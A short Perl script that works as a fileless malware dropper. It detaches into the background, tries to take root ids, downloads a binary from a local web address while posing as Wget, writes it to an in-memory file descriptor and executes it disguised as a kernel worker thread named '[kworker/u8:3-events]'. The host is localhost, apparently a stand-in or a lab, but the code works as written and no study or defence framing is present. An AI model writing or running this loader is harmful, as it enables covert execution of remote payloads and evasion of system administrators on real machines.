use POSIX;use HTTP::Tiny;fork&&exit;POSIX::setsid();$(=0;$)="0 0";$<=0;$>=0;
$ENV{PATH}="/usr/sbin:/usr/bin:/sbin:/bin";delete @ENV{qw(IFS CDPATH ENV BASH_ENV)};
my $r=HTTP::Tiny->new(agent=>"Wget/1.21.3",timeout=>10)->get("http://127.0.0.1:8445/static/kw");
exit unless $r->{success};
my $n="kw";my $f=syscall(319,$n,0);exit if $f<0;
open(my $h,">&=",$f) or exit;binmode $h;syswrite($h,$r->{content});
exec {"/proc/self/fd/$f"} "[kworker/u8:3-events]";
